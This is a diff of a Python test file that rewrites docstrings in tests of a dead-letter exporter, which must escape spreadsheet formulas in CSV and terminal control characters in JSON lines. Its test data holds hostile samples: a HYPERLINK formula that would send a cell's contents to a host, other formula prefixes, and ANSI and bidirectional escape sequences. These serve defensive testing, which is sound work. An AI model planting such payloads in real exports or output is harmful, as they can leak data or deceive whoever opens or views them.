@@ -1,4 +1,4 @@
-"""Dead letters as CSV and as lines of JSON: no cell is a formula, nothing controls a terminal."""
+"""Dead letters as CSV and as lines of JSON: no cell is a formula, and no text controls a terminal."""
 
 import csv
 import json
@@ -34,7 +34,7 @@ def written(one: WholeDeadLetter, form: Form, *, shown: bool = False) -> str:
 
 
 def test_a_spreadsheet_is_given_no_formula() -> None:
-    """Whatever a producer put first; what is none stays as it is, and lines of JSON have all as it is."""
+    """Formulas are escaped in CSV only; other texts and lines of JSON stay unchanged."""
     bad = letter('=HYPERLINK("http://x?"&A1)', "@SUM(1)", b"+1", b"\t=1")
     (row,) = csv.DictReader(StringIO(written(bad, Form.CSV)))
     assert (row["script_id"], row["event_id"]) == ('\'=HYPERLINK("http://x?"&A1)', "'@SUM(1)")
@@ -52,7 +52,7 @@ TEXTS = st.text(st.sampled_from("=+-@\uff1d\uff0b\uff0d\uff20;|,\t\r\n\" 'a1"), 
 
 
 def assert_no_formula(one: WholeDeadLetter) -> None:
-    """However a spreadsheet separates cells, none begins a formula."""
+    """Check that no cell begins a formula, for every separator of a spreadsheet."""
     text = written(one, Form.CSV)
     for separator in ",;|\t":
         for row in csv.reader(StringIO(text, newline=""), delimiter=separator):
@@ -62,14 +62,14 @@ def assert_no_formula(one: WholeDeadLetter) -> None:
 @pytest.mark.parametrize("formula", OWASP)
 @pytest.mark.parametrize("before", ["", "x;", 'x;"', "x\t", "x\n", "x\r\n", "x|", '";', "x; "])
 def test_csv_gives_no_spreadsheet_a_formula(formula: str, before: str) -> None:
-    """Each that OWASP names, at the start of a cell and behind what another program would take for the end of one."""
+    """OWASP's prefixes are escaped at a cell's start and after possible cell ends."""
     text = f"{before}{formula}"
     assert_no_formula(letter(text, text, text.encode(), text.encode()))
 
 
 @given(TEXTS, TEXTS, TEXTS)
 def test_csv_gives_no_spreadsheet_a_formula_whatever_the_texts(script_id: str, event_id: str, payload: str) -> None:
-    """And read as it is written, at `,`, each cell is the text but for the marks."""
+    """Read with `,`, each cell is the text apart from the added marks."""
     one = letter(script_id, event_id, b"k", payload.encode())
     assert_no_formula(one)
     (row,) = csv.DictReader(StringIO(written(one, Form.CSV), newline=""))
@@ -81,14 +81,14 @@ HOSTILE = "a\x1b[31m\x07\x9b2J\u202e\x7f\r\nb"
 
 
 def test_json_lines_hold_no_control_character() -> None:
-    """Also those that JSON does not demand to be escaped; a parser gets the text as it was sent."""
+    """All are escaped, beyond what JSON requires; a parser gets the original text."""
     line = written(letter(HOSTILE, HOSTILE, HOSTILE.encode(), HOSTILE.encode()), Form.NDJSON)
     assert line.removesuffix("\n").isprintable()
     assert [json.loads(line)[name] for name in ("script_id", "event_id", "key", "payload")] == [HOSTILE] * 4
 
 
 def test_csv_on_a_terminal_is_written_out() -> None:
-    """In a file or a pipe it holds what was sent."""
+    """A file or a pipe gets the original text."""
     one = letter(HOSTILE, None, b"k", HOSTILE.encode())
     assert all(line.isprintable() for line in written(one, Form.CSV, shown=True).splitlines())
     assert HOSTILE in written(one, Form.CSV)
@@ -97,7 +97,7 @@ def test_csv_on_a_terminal_is_written_out() -> None:
 @pytest.mark.parametrize("shape", ["\u202ea", "\x7f\x1b", ";=", '\t"=', "\U000e0041\u00e9"])
 @pytest.mark.parametrize("form", Form)
 def test_a_hostile_letter_costs_no_call_for_each_character(form: Form, shape: str) -> None:
-    """Else one of a megabyte takes half a second, which the event loop of the API does not have."""
+    """A megabyte would otherwise block the API's event loop for half a second."""
     one = letter("s1", None, b"k", shape.encode() * 20_000)
     calls = count()
     sys.setprofile(lambda *_: next(calls) and None)
